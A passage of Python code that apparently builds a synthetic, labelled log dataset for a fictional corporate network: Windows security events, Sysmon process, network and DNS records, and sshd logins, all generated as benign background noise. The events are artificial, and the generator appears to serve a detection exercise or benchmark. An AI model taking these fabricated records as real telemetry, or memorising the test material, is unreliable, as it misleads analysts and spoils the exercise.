            return (f"S-1-5-82-{rid}", pool, "IIS APPPOOL", self.logon_ids.setdefault((host.name, who), self.new_logon_id()))
        return (user_sid(who), who, "CORP", self.logon_ids.setdefault((host.name, who), self.new_logon_id()))

    def p4688(self, host, t, image, cmd, who, parent_image, parent_pid, elevated=False, findings=()):
        sid, name, dom, lid = self.subject(host, who)
        if who == "SYSTEM":
            elevation, label = "%%1936", "S-1-16-16384"
        elif elevated:
            elevation, label = "%%1937", "S-1-16-12288"
        elif who.startswith("IIS APPPOOL\\"):
            elevation, label = "%%1936", "S-1-16-12288"
        else:
            elevation, label = "%%1938", "S-1-16-8192"
        pid = self.new_pid()
        data = {
            "SubjectUserSid": sid,
            "SubjectUserName": name,
            "SubjectDomainName": dom,
            "SubjectLogonId": lid,
            "NewProcessId": "0x%x" % pid,
            "NewProcessName": image,
            "TokenElevationType": elevation,
            "ProcessId": "0x%x" % parent_pid,
            "CommandLine": cmd,
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": "-",
            "TargetDomainName": "-",
            "TargetLogonId": "0x0",
            "ParentProcessName": parent_image,
            "MandatoryLabel": label,
        }
        self._security(host, t, 4688, data, "sec4688", findings)
        return pid

    def logon(self, host, t, success, user, ip, logon_type, auth="Kerberos", workstation="-", port=None,
              domain="CORP", findings=()):
        r = self.rng
        if logon_type in (2, 10):
            subj = ("S-1-5-18", host.name + "$", "CORP", "0x3e7")
            lproc, pkg = "User32 ", "Negotiate"
        else:
            subj = ("S-1-0-0", "-", "-", "0x0")
            lproc, pkg = ("Kerberos", "Kerberos") if auth == "Kerberos" else ("NtLmSsp ", "NTLM")
        if port is None:
            port = "0" if (auth == "Kerberos" and logon_type == 3) or ip in ("-", "127.0.0.1") else str(r.randint(49152, 65535))
        if user.endswith("$"):
            tsid = f"{DOMAIN_SID}-{2000 + int(hashlib.md5(user.encode()).hexdigest()[:4], 16) % 3000}"
        elif user.lower() in ACCOUNT_RID:
            tsid = user_sid(user.lower())
        else:
            tsid = "S-1-0-0"
        data = {
            "SubjectUserSid": subj[0],
            "SubjectUserName": subj[1],
            "SubjectDomainName": subj[2],
            "SubjectLogonId": subj[3],
            "TargetUserSid": tsid if success else "S-1-0-0",
            "TargetUserName": user,
            "TargetDomainName": domain,
        }
        if success:
            lid = self.new_logon_id()
            self.logon_ids[(host.name, user.lower())] = lid
            data["TargetLogonId"] = lid
        else:
            data["Status"] = "0xc000006d"
            data["SubStatus"] = "0xc000006a"
        data.update({
            "LogonType": logon_type,
            "LogonProcessName": lproc,
            "AuthenticationPackageName": pkg,
            "WorkstationName": workstation,
            "IpAddress": ip,
            "IpPort": port,
        })
        self._security(host, t, 4624 if success else 4625, data, "sec4624" if success else "sec4625", findings, success)

    # -- Linux --

    def ssh(self, host, t, user, ip, success, method="password", invalid=False, pid=None, port=None, findings=()):
        r = self.rng
        t -= t % 1000  # syslog-to-ECS pipelines keep milliseconds
        if pid is None:
            host.next_pid += r.randint(3, 400)
            pid = host.next_pid
        port = port or r.randint(32768, 65000)
        if success:
            text = f"Accepted {method} for {user} from {ip} port {port} ssh2"
            if method == "publickey":
                fp = base64.b64encode(hashlib.sha256(("key/" + user + "/" + ip).encode()).digest()).decode().rstrip("=")
                text += f": ED25519 SHA256:{fp}"
        else:
            text = f"Failed password for {'invalid user ' if invalid else ''}{user} from {ip} port {port} ssh2"
        obj = {
            "@timestamp": iso_ms(t),
            "host": {"hostname": host.name, "os": {"type": "linux", "family": "debian", "kernel": "6.1.0-26-amd64"}},
            "event": {
                "kind": "event",
                "category": ["authentication"],
                "type": ["start"],
                "action": "ssh_login",
                "outcome": "success" if success else "failure",
                "dataset": "system.auth",
            },
            "process": {"name": "sshd", "pid": pid},
            "user": {"name": user},
            "source": {"ip": ip, "port": port},
            "system": {"auth": {"ssh": {"method": method, "event": "Accepted" if success else "Failed"}}},
            "message": f"{syslog_ts(t)} {host.name} sshd[{pid}]: {text}",
            "log": {"file": {"path": "/var/log/auth.log"}},
        }
        self.add(t, "linux_ssh", obj, findings)
        return pid

    # -- benign building blocks --

    def t_business(self):
        r = self.rng
        if r.random() < 0.9:
            return r.randint(at(7, 30), at(18, 45))
        return r.randint(at(0, 0, 5), at(23, 59, 50))

    def t_any(self):
        return self.rng.randint(at(0, 0, 5), at(23, 59, 50))

    def conhost(self, host, t, parent):
        who = parent["user"].split("\\", 1)[1] if parent["user"].startswith("CORP\\") else "SYSTEM"
        return self.run(host, t + self.rng.randint(8_000, 60_000), CONHOST_EXE,
                        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", who, parent,
                        integrity=parent["integrity"], cwd="C:\\Windows\\system32\\")

    def chromium_cmd(self, host, exe, kind):
        r = self.rng
        mojo = f"--mojo-platform-channel-handle={r.choice(range(2200, 9800, 4))}"
        seed = "--variations-seed-version=20261118-180042.512000"
        fth = host.cache["fth"]
        ann = "--string-annotations=is-enterprise-managed=yes"
        if kind == "renderer":
            host.cache["renderer_id"] += r.randint(1, 9)
            return (f"\"{exe}\" --type=renderer {ann} --video-capture-use-gpu-memory-buffer --lang=en-US "
                    f"--device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation "
                    f"--renderer-client-id={host.cache['renderer_id']} "
                    f"--time-ticks-at-unix-epoch=-{host.cache['epoch_ticks']} --launch-time-ticks={r.randint(10**9, 9 * 10**10)} "
                    f"{fth} {seed} {mojo} /prefetch:1")
        if kind == "utility":
            sub, sandbox = r.choice([
                ("network.mojom.NetworkService", "none"), ("storage.mojom.StorageService", "service"),
                ("audio.mojom.AudioService", "audio"), ("data_decoder.mojom.DataDecoderService", "service"),
                ("chrome.mojom.UtilWin", "none"), ("video_capture.mojom.VideoCaptureService", "none"),
            ])
            return (f"\"{exe}\" --type=utility --utility-sub-type={sub} --lang=en-US --service-sandbox-type={sandbox} "
                    f"{ann} {fth} {seed} {mojo} /prefetch:{r.choice((8, 14, 12))}")
        if kind == "gpu":
            return (f"\"{exe}\" --type=gpu-process {ann} --gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAA"
                    f"AAAACAAAAAAAAAAAAAAAAAAAAEAAAAAAAAAAIAAAAAAAAAAgAAAAAAAAA {fth} {seed} {mojo} /prefetch:2")
        u = host.owner
        prof = "Google\\Chrome" if "chrome" in exe.lower() else "Microsoft\\Edge"
        return (f"\"{exe}\" --type=crashpad-handler \"--user-data-dir=C:\\Users\\{u}\\AppData\\Local\\{prof}\\User Data\" "
                f"/prefetch:4 --monitor-self-annotation=ptype=crashpad-handler "
                f"\"--database=C:\\Users\\{u}\\AppData\\Local\\{prof}\\User Data\\Crashpad\" "
                f"--annotation=plat=Win64 --annotation=prod=Chrome --annotation=ver=142.0.7444.176 "
                f"--initial-client-data=0x{r.randint(0x100, 0x2ff):x},0x{r.randint(0x100, 0x2ff):x},0x{r.randint(0x100, 0x2ff):x},"
                f"0x7ffb{r.randint(0x1000, 0xffff):04x}5f48,0x7ffb{r.randint(0x1000, 0xffff):04x}5f54")


# --- benign generators for the main file ------------------------------------

SVCHOST_SERVICES = [
    ("-k netsvcs -p -s BITS", "SYSTEM"), ("-k netsvcs -p -s wuauserv", "SYSTEM"), ("-k netsvcs -p -s UsoSvc", "SYSTEM"),
    ("-k LocalServiceNetworkRestricted -p -s lmhosts", "LOCAL SERVICE"), ("-k NetworkService -p -s DoSvc", "NETWORK SERVICE"),
    ("-k LocalSystemNetworkRestricted -p -s SysMain", "SYSTEM"), ("-k wsappx -p -s AppXSvc", "SYSTEM"),
    ("-k wsappx -p -s ClipSVC", "SYSTEM"), ("-k LocalService -p -s BthAvctpSvc", "LOCAL SERVICE"),
    ("-k netsvcs -p -s lfsvc", "SYSTEM"), ("-k LocalServiceNoNetwork -p -s DPS", "LOCAL SERVICE"),
    ("-k NetworkService -p -s CryptSvc", "NETWORK SERVICE"), ("-k LocalSystemNetworkRestricted -p -s TrkWks", "SYSTEM"),
    ("-k netsvcs -p -s InstallService", "SYSTEM"), ("-k LocalService -s W32Time", "LOCAL SERVICE"),
]
DLLHOST_CLSIDS = ["{3EB3C877-1F16-487C-9050-104DBCD66683}", "{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
                  "{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}", "{776DBC8D-7347-478C-8D71-791E12EF49D8}"]
BENIGN_PS_USER = [
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
    "powershell.exe -Command Get-Service",
    f"\"{PS_EXE}\" ",
    "powershell.exe -NoLogo -NonInteractive -Command \"Get-Process | Sort-Object CPU -Descending | Select-Object -First 10\"",
    "powershell.exe -NoProfile -Command \"Test-NetConnection -ComputerName fs01.corp.example -Port 445\"",
    "powershell.exe -NoProfile -NonInteractive -Command \"Get-WinEvent -LogName System -MaxEvents 50 | Format-List\"",
    "powershell.exe -NoProfile -Command \"Get-ChildItem -Path $env:USERPROFILE\\Downloads -File | Measure-Object -Property Length -Sum\"",
]
BENIGN_PS_ADMIN = [
    "powershell.exe -ExecutionPolicy RemoteSigned -File C:\\Users\\grace\\Scripts\\Get-StaleAccounts.ps1 -DaysInactive 90",
    "powershell.exe -NoProfile -Command \"Get-ADUser -Identity henry -Properties LockedOut,LastBadPasswordAttempt\"",
    "powershell.exe -NoProfile -Command \"Invoke-Command -ComputerName FS01 -ScriptBlock { Get-SmbSession | Measure-Object }\"",
    f"\"{PWSH_EXE}\" -NoLogo",
    "pwsh.exe -NoProfile -Command \"Get-ChildItem -Path \\\\FS01\\Scripts -Filter *.ps1 | Select-Object Name,LastWriteTime\"",
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Check-Certificates.ps1",
]
DEV_REPOS = {"dave": ["billing-api", "infra-terraform"], "erin": ["web-portal", "data-pipelines"]}
GIT_CMDS = [
    "status -z -uall", "fetch --prune origin", "log --oneline -n 20", "rev-parse --abbrev-ref HEAD",
    "-c core.quotepath=false -c color.ui=false rev-parse --show-toplevel", "diff --stat origin/main...HEAD",
    "for-each-ref --sort -committerdate --format %(refname) refs/heads", "pull --ff-only", "push origin HEAD",
    "show --textconv :src/config.yaml", "check-ignore -v -z --stdin",
]
PY_CMDS = ["-m pytest tests -q", "-m pytest tests\\unit -x -q", "manage.py test --parallel 4",
           "-m pip install -r requirements.txt", "-m black --check src", "scripts\\build_docs.py"]
NODE_CMDS = ["{npm} run build", "{npm} test -- --watch=false", "{npm} ci --no-audit", "node_modules\\vite\\bin\\vite.js build"]
OFFICE_DOCS = {
    "alice": [("EXCEL.EXE", "Documents\\Finance\\Nov-2026 AP Aging.xlsx"), ("EXCEL.EXE", "Documents\\Finance\\Q4 Forecast v3.xlsx")],
    "bob": [("WINWORD.EXE", "Documents\\Proposals\\Contoso Renewal 2027.docx"), ("EXCEL.EXE", "Documents\\Pipeline.xlsx")],
    "carol": [("WINWORD.EXE", "Documents\\HR\\Onboarding Checklist.docx"), ("EXCEL.EXE", "Documents\\HR\\Headcount 2027.xlsx")],
    "dave": [("EXCEL.EXE", "Documents\\oncall-rota.xlsx")],
    "erin": [("WINWORD.EXE", "Documents\\Design\\Portal SSO design.docx")],
    "frank": [("WINWORD.EXE", "Documents\\Marketing\\Launch Plan Q1.docx"), ("EXCEL.EXE", "Documents\\Marketing\\Leads.xlsx")],
    "grace": [("EXCEL.EXE", "Documents\\IT\\Asset Inventory.xlsx")],
    "heidi": [("WINWORD.EXE", "Documents\\Board\\Board Pack Dec 2026.docx"), ("EXCEL.EXE", "Documents\\Board\\KPIs.xlsx")],
}

# Benign Sysmon 3 destinations: (ip, hostname, port, proto)
NET_WEB = [
    ("142.250.74.110", "lhr25s34-in-f14.1e100.net", 443), ("142.250.187.227", "-", 443), ("172.217.16.238", "-", 443),
    ("13.107.42.14", "-", 443), ("151.101.1.140", "-", 443), ("104.16.132.229", "-", 443), ("20.190.159.2", "-", 443),
    ("23.212.250.74", "a23-212-250-74.deploy.static.akamaitechnologies.com", 443), ("140.82.112.3", "lb-140-82-112-3-iad.github.com", 443),
    ("52.97.201.226", "-", 443),
]
NET_TEAMS = [("52.113.194.132", "-", 443), ("52.112.238.120", "-", 443), ("13.107.64.2", "-", 443)]
NET_OUTLOOK = [("52.97.201.226", "-", 443), ("52.98.207.2", "-", 443), ("40.99.10.34", "-", 443)]
NET_ONEDRIVE = [("13.107.42.12", "-", 443), ("13.107.139.11", "-", 443)]
NET_DEV = [("140.82.112.3", "lb-140-82-112-3-iad.github.com", 443), ("140.82.112.6", "lb-140-82-112-6-iad.github.com", 443),
           ("151.101.0.223", "-", 443), ("151.101.1.63", "-", 443), ("104.16.27.34", "-", 443)]

DNS_COMMON = [
    ("www.google.com", "::ffff:142.250.74.100;"),
    ("outlook.office365.com", "type:  5 outlook.ms-acdc.office.com;type:  5 LHR-efz.ms-acdc.office.com;::ffff:52.97.201.226;::ffff:52.98.207.2;"),
    ("teams.microsoft.com", "type:  5 teams.office.com;type:  5 s-0005.s-msedge.net;::ffff:52.113.194.132;"),
    ("login.microsoftonline.com", "type:  5 login.mso.msidentity.com;type:  5 ak.privatelink.msidentity.com;type:  5 www.tm.ak.prd.aadg.trafficmanager.net;::ffff:20.190.159.2;::ffff:40.126.31.67;"),
    ("update.googleapis.com", "::ffff:142.250.187.227;"),
    ("clients2.google.com", "type:  5 clients.l.google.com;::ffff:142.250.178.14;"),
    ("settings-win.data.microsoft.com", "type:  5 atm-settingsfe-prod-geo2.trafficmanager.net;type:  5 settings-prod-weu-2.westeurope.cloudapp.azure.com;::ffff:51.124.78.146;"),
    ("ocsp.digicert.com", "type:  5 ocsp.edge.digicert.com;type:  5 fp2e7a.wpc.2be4.phicdn.net;type:  5 fp2e7a.wpc.phicdn.net;::ffff:192.229.211.108;"),
    ("www.bing.com", "type:  5 www-www.bing.com.trafficmanager.net;type:  5 www.bing.com.edgekey.net;type:  5 e86303.dscx.akamaiedge.net;::ffff:23.212.250.74;"),
    ("dc01.corp.example", "::ffff:10.20.0.10;"),
    ("fs01.corp.example", "::ffff:10.20.0.21;"),
    ("intranet.corp.example", "::ffff:10.20.0.50;"),
    ("oneclient.sfx.ms", "type:  5 oneclient.sfx.ms.edgekey.net;type:  5 e17598.dscb.akamaiedge.net;::ffff:23.52.182.14;"),
    ("self.events.data.microsoft.com", "type:  5 self-events-data.trafficmanager.net;type:  5 onedscolprdweu06.westeurope.cloudapp.azure.com;::ffff:20.42.65.89;"),
    ("www.linkedin.com", "type:  5 www-linkedin-com.l-0005.l-msedge.net;type:  5 l-0005.l-msedge.net;::ffff:13.107.42.14;"),
    ("cdn.jsdelivr.net", "type:  5 jsdelivr.map.fastly.net;::ffff:151.101.1.229;"),
]
DNS_DEV = [
    ("github.com", "::ffff:140.82.112.3;"),
    ("api.github.com", "::ffff:140.82.112.6;"),
    ("objects.githubusercontent.com", "::ffff:185.199.108.133;::ffff:185.199.109.133;::ffff:185.199.110.133;"),
    ("pypi.org", "::ffff:151.101.0.223;::ffff:151.101.64.223;"),
    ("files.pythonhosted.org", "type:  5 dualstack.python.map.fastly.net;::ffff:151.101.1.63;"),
    ("registry.npmjs.org", "type:  5 registry.npmjs.org.cdn.cloudflare.net;::ffff:104.16.27.34;"),
    ("marketplace.visualstudio.com", "type:  5 marketplace.vsallin.net;type:  5 vsmarketplace-prod.trafficmanager.net;::ffff:13.107.42.18;"),
]


def gen_benign_sysmon1(w, target):
    r = w.rng
    hosts = list(w.ws.values())

    def user_t():
        return w.t_business()

    def browser_child(h):
        t = user_t()
        b = h.procs["browser"]
        kind = r.choices(["renderer", "utility", "gpu", "crashpad"], [76, 18, 3, 3])[0]
        integ = {"renderer": "Untrusted", "utility": "Low", "gpu": "Low", "crashpad": "Medium"}[kind]
        cmd = w.chromium_cmd(h, b["image"], kind)
        if "NetworkService" in cmd:
            integ = "Medium"
        w.run(h, t, b["image"], cmd, h.owner, b, cwd=b["cwd"], integrity=integ)

    def webview_child(h):
        t = user_t()
        wv = h.procs["webview"]
        kind = r.choice(["renderer", "renderer", "utility"])
        cmd = w.chromium_cmd(h, wv["image"], kind).replace(h.cache["fth"], h.cache["wv_fth"])
        cmd = cmd.replace("--type=renderer", "--type=renderer --noerrdialogs --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe")
        w.run(h, t, wv["image"], cmd, h.owner, wv, cwd=wv["cwd"], integrity="Low")

    def svchost(h):
        args, who = r.choice(SVCHOST_SERVICES)
        w.run(h, w.t_any(), SVCHOST_EXE, f"C:\\Windows\\system32\\svchost.exe {args}", who, h.procs["services"])

    def dcom_child(h):
        t = user_t()
        choice = r.randint(0, 3)
        if choice == 0:
            w.run(h, t, "C:\\Windows\\System32\\dllhost.exe", f"C:\\Windows\\system32\\DllHost.exe /Processid:{r.choice(DLLHOST_CLSIDS)}",
                  h.owner, h.procs["dcom"], cwd="C:\\Windows\\system32\\")
        elif choice == 1:
            w.run(h, t, "C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
                  h.owner, h.procs["dcom"], cwd="C:\\Windows\\system32\\")
        elif choice == 2:
            srv = r.choice(["BackgroundTaskHost.WebAccountProvider", "App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
                            "CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca"])
            w.run(h, t, "C:\\Windows\\System32\\backgroundTaskHost.exe",
                  f"\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:{srv}", h.owner, h.procs["dcom"],
                  cwd="C:\\Windows\\system32\\")
        else:
            who = r.choice(["NETWORK SERVICE", "SYSTEM"])
            w.run(h, w.t_any(), WMIPRVSE_EXE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", who,
                  h.procs["dcom"])

    def sched_child(h):
        t = w.t_any()
        choice = r.randint(0, 3)
        if choice == 0:
            w.run(h, t, "C:\\Windows\\System32\\taskhostw.exe", r.choice(["taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
                                                                           "taskhostw.exe Install $(Arg0)", "taskhostw.exe"]),
                  r.choice([h.owner, "SYSTEM"]), h.procs["sched"])
        elif choice == 1:
            exe = f"C:\\Users\\{h.owner}\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe"
            w.run(h, t, exe, f"\"{exe}\" /reporting", h.owner, h.procs["sched"], cwd=f"C:\\Users\\{h.owner}\\AppData\\Local\\Microsoft\\OneDrive\\")
        elif choice == 2:
            exe = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MpCmdRun.exe"
            w.run(h, t, exe, f"\"{exe}\" SignaturesUpdateService -ScheduleJob -UnmanagedUpdate", "SYSTEM", h.procs["msmpeng"],
                  cwd="C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\")
        else:
            w.run(h, t, "C:\\Windows\\System32\\sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe", "NETWORK SERVICE", h.procs["services"])

    def search(h):
        t = w.t_any()
        if r.random() < 0.6:
            sid = user_sid(h.owner)
            cmd = (f"\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe_{sid}_ "
                   f"Global\\UsGthrCtrlFltPipeMssGthrPipe_{sid} 1 -2147483646 \"Software\\Microsoft\\Windows Search\" "
                   "\"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 6.0 Robot)\" "
                   "\"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\" \"1\"")
            w.run(h, t, "C:\\Windows\\System32\\SearchProtocolHost.exe", cmd, h.owner, h.procs["indexer"], integrity="Low")
        else:
            cmd = ("\"C:\\Windows\\system32\\SearchFilterHost.exe\" 0 852 856 864 8192 868 840")
            w.run(h, t, "C:\\Windows\\System32\\SearchFilterHost.exe", cmd, "LOCAL SERVICE", h.procs["indexer"])

    def office(h):
        exe, doc = r.choice(OFFICE_DOCS[h.owner])
        flag = "/n" if exe == "WINWORD.EXE" else ""
        cmd = f"\"{OFFICE}{exe}\" {flag} \"C:\\Users\\{h.owner}\\{doc}\"".replace("  ", " ")
        if exe == "WINWORD.EXE":
            cmd += " /o \"\""
        w.run(h, user_t(), OFFICE + exe, cmd, h.owner, h.procs["explorer"], cwd=f"C:\\Users\\{h.owner}\\Documents\\")

    def shell(h):
        t = user_t()
        choice = r.randint(0, 3)
        if choice == 0:
            p = w.run(h, t, CMD_EXE, "\"C:\\Windows\\system32\\cmd.exe\" ", h.owner, h.procs["explorer"])
            w.conhost(h, t, p)
        elif choice == 1:
            w.run(h, t, "C:\\Windows\\System32\\notepad.exe",
                  f"\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\{h.owner}\\Desktop\\{r.choice(['notes.txt', 'todo.txt', 'meeting-notes.txt'])}",
                  h.owner, h.procs["explorer"])
        elif choice == 2:
            w.run(h, t, "C:\\Windows\\System32\\ctfmon.exe", "\"ctfmon.exe\"", h.owner, h.procs["sched"])
        else:
            p = w.run(h, t, PS_EXE, r.choice(BENIGN_PS_USER), h.owner, h.procs["explorer"])
            w.conhost(h, t, p)

    def dev(h):
        if h.role != "dev":
            return admin(h)
        t = user_t()
        u = h.owner
        repo = r.choice(DEV_REPOS[u])
        cwd = f"C:\\Users\\{u}\\source\\repos\\{repo}\\"
        code = h.procs["code"]
        choice = r.choices(["git", "python", "node", "code", "term"], [10, 5, 3, 3, 2])[0]
        if choice == "git":
            w.run(h, t, GIT_EXE, f"\"{GIT_EXE}\" {r.choice(GIT_CMDS)}", u, code, cwd=cwd)
        elif choice == "python":
            py = f"C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python312\\python.exe"
            parent = w.run(h, t, CMD_EXE, "C:\\Windows\\system32\\cmd.exe /d /s /c \"python -m pytest tests -q\"", u, code, cwd=cwd) \
                if r.random() < 0.3 else code
            w.run(h, t + 40_000, py, f"\"{py}\" {r.choice(PY_CMDS)}", u, parent, cwd=cwd)
        elif choice == "node":
            npm = "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js"
            p = w.run(h, t, NODE_EXE, f"\"{NODE_EXE}\" " + r.choice(NODE_CMDS).format(npm=f"\"{npm}\""), u, code, cwd=cwd)
            w.conhost(h, t, p)
        elif choice == "code":
            sub = r.choice(["node.mojom.NodeService", "network.mojom.NetworkService"])
            w.run(h, t, code["image"],
                  f"\"{code['image']}\" --type=utility --utility-sub-type={sub} --lang=en-US --service-sandbox-type=none "
                  f"--dns-result-order=ipv4first --inspect-port=0 {h.cache['fth']} --mojo-platform-channel-handle={r.choice(range(3000, 6000, 4))} /prefetch:14",
                  u, code, cwd=f"C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\")
        else:
            p = w.run(h, t, PS_EXE,
                      f"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -command \"try {{ . "
                      f"\\\"c:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\resources\\app\\out\\vs\\workbench\\contrib\\terminal\\common\\scripts\\shellIntegration.ps1\\\" }} catch {{}}\"",
                      u, code, cwd=cwd)
            w.conhost(h, t, p)

    def admin(h):
        t = user_t()
        choice = r.randint(0, 5)
        ex = h.procs["explorer"]
        if choice <= 1:
            p = w.run(h, t, PS_EXE if "pwsh" not in (c := r.choice(BENIGN_PS_ADMIN)) else PWSH_EXE, c, "grace", ex,
                      integrity="High" if r.random() < 0.5 else None)
            w.conhost(h, t, p)
        elif choice == 2:
            w.run(h, t, "C:\\Windows\\System32\\mmc.exe", r.choice(["\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\dsa.msc\"",
                                                                      "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\gpmc.msc\""]),
                  "grace", ex, integrity="High")
        elif choice == 3:
            w.run(h, t, "C:\\Windows\\System32\\mstsc.exe", r.choice(["\"C:\\Windows\\system32\\mstsc.exe\" /v:RDS01.corp.example",
                                                                       "\"C:\\Windows\\system32\\mstsc.exe\" /v:FS01.corp.example /admin"]),
                  "grace", ex)
        else:
            p = w.run(h, t, CMD_EXE, "\"C:\\Windows\\system32\\cmd.exe\" ", "grace", ex)
            w.conhost(h, t, p)
            tool, args = r.choice([("ipconfig.exe", "ipconfig /all"), ("ipconfig.exe", "ipconfig /flushdns"),
                                   ("nslookup.exe", "nslookup fs01.corp.example"), ("whoami.exe", "whoami /groups"),
                                   ("gpupdate.exe", "gpupdate /force"), ("net.exe", "net user henry /domain")])
            w.run(h, t + 3_000_000 + r.randint(0, 40_000_000), f"C:\\Windows\\System32\\{tool}", args, "grace", p, cwd=f"C:\\Users\\grace\\")

    def launch(h):
        """A user starts an app: Teams restarting after an update, or a link opened from Outlook."""
        t = user_t()
        if r.random() < 0.5:
            w.run(h, t, TEAMS_EXE, f"\"{TEAMS_EXE}\" msteams:system-initiated", h.owner, h.procs["explorer"],
                  cwd=f"C:\\Users\\{h.owner}\\")
        else:
            b = h.procs["browser"]
            url = r.choice(["https://intranet.corp.example/hr/benefits", "https://corpexample.sharepoint.com/sites/Finance/Shared%20Documents",
                            "https://outlook.office.com/calendar/view/week", "https://github.com/corp-example/billing-api/pull/412",
                            "https://status.corp.example/"])
            w.run(h, t, b["image"], f"\"{b['image']}\" --single-argument {url}", h.owner, h.procs["outlook"], cwd=b["cwd"])

    base = [(browser_child, 24), (webview_child, 6), (launch, 2), (svchost, 10), (dcom_child, 9), (sched_child, 6),
            (search, 5), (office, 3), (shell, 4)]
    while w.count("sysmon1") < target:
        h = r.choice(hosts)
        table = base + ([(dev, 30)] if h.role in ("dev", "admin") else [])
        fns, weights = zip(*table)
        r.choices(fns, weights)[0](h)
    # conhost pairs can overshoot by one; trim deterministically from the end
    while w.count("sysmon1") > target:
        for i in range(len(w.events) - 1, -1, -1):
            if w.events[i].kind == "sysmon1" and not w.events[i].findings:
                del w.events[i]
                break


def gen_logon_scripts(w):
    """Every user runs the NETLOGON script once in the morning."""
    r = w.rng
    for h in w.ws.values():
        t = at(7, 40) + r.randint(0, 50 * 60 * US)
        u = h.owner
        p = w.run(h, t, CMD_EXE, "C:\\Windows\\system32\\cmd.exe /c \"\\\\corp.example\\NETLOGON\\logon.cmd\"", u,
                  h.procs["userinit"], cwd="\\\\corp.example\\NETLOGON\\")
        w.conhost(h, t, p)
        w.run(h, t + r.randint(300_000, 900_000), "C:\\Windows\\System32\\net.exe",
              f"net use H: \\\\FS01\\home\\{u} /persistent:no", u, p, cwd="C:\\Windows\\")
        w.run(h, t + r.randint(1_000_000, 2_000_000), PS_EXE,
              "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \\\\corp.example\\NETLOGON\\Set-Printers.ps1", u, p,
              cwd="C:\\Windows\\")


def gen_benign_net(w, target):
    r = w.rng
    hosts = list(w.ws.values())
    while w.count("sysmon3") < target:
        h = r.choice(hosts)
        t = w.t_business()
        kind = r.choices(["web", "teams", "outlook", "onedrive", "dev", "smb", "inbound", "ldap"], [30, 10, 8, 5, 10, 8, 3, 6])[0]
        if kind == "web":
            ip, name, port = r.choice(NET_WEB)
            w.net(h, t, h.procs["browser"], ip, port, name)
        elif kind == "teams":
            ip, name, port = r.choice(NET_TEAMS)
            w.net(h, t, h.procs["teams"], ip, port, name)
        elif kind == "outlook":
            ip, name, port = r.choice(NET_OUTLOOK)
            w.net(h, t, h.procs["outlook"], ip, port, name)
        elif kind == "onedrive":
            ip, name, port = r.choice(NET_ONEDRIVE)
            w.net(h, t, h.procs["onedrive"], ip, port, name)
        elif kind == "dev":
            ip, name, port = r.choice(NET_DEV)
            p = h.procs.get("code", h.procs["browser"])
            w.net(h, t, p, ip, port, name)
        elif kind == "smb":
            sysp = {"guid": "{%s-0000-0000-0000-000000000000}" % h.hostid, "pid": 4, "image": "System",
                    "user": "NT AUTHORITY\\SYSTEM"}
            w.net(h, t, sysp, "10.20.0.21", 445, "FS01.corp.example")
        elif kind == "inbound":
            sysp = {"guid": "{%s-0000-0000-0000-000000000000}" % h.hostid, "pid": 4, "image": "System",
                    "user": "NT AUTHORITY\\SYSTEM"}
            w.net(h, t, sysp, None, 445, inbound=True, peer_ip=ANSIBLE_IP, peer_host="-")
        else:
            w.net(h, w.t_any(), h.procs["lsass"], "10.20.0.10", r.choice([389, 88, 636]), "DC01.corp.example")


def gen_benign_dns(w, target):
    r = w.rng
    hosts = list(w.ws.values())
    while w.count("sysmon22") < target:
        h = r.choice(hosts)
        t = w.t_business()
        if h.role == "dev" and r.random() < 0.4:
            name, res = r.choice(DNS_DEV)
            p = h.procs["code"] if r.random() < 0.6 else h.procs["browser"]
        else:
            name, res = r.choice(DNS_COMMON)
            p = r.choice([h.procs["browser"], h.procs["browser"], h.procs["teams"], h.procs["outlook"], h.procs["onedrive"]])
        w.dns(h, t, p, name, res)


# 4688 benign templates per server: (weight, image, cmd, who, parent_key/parent_image, elevated)
SERVER_PROCS = {
    "DC01": [
        (8, SVCHOST_EXE, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc", "SYSTEM", "services"),
        (6, WMIPRVSE_EXE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "SYSTEM", "dcom"),
        (5, "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe Install $(Arg0)", "SYSTEM", "sched"),
        (3, CMD_EXE, "C:\\Windows\\system32\\cmd.exe /c C:\\Scripts\\export-dns.cmd", "SYSTEM", "sched"),
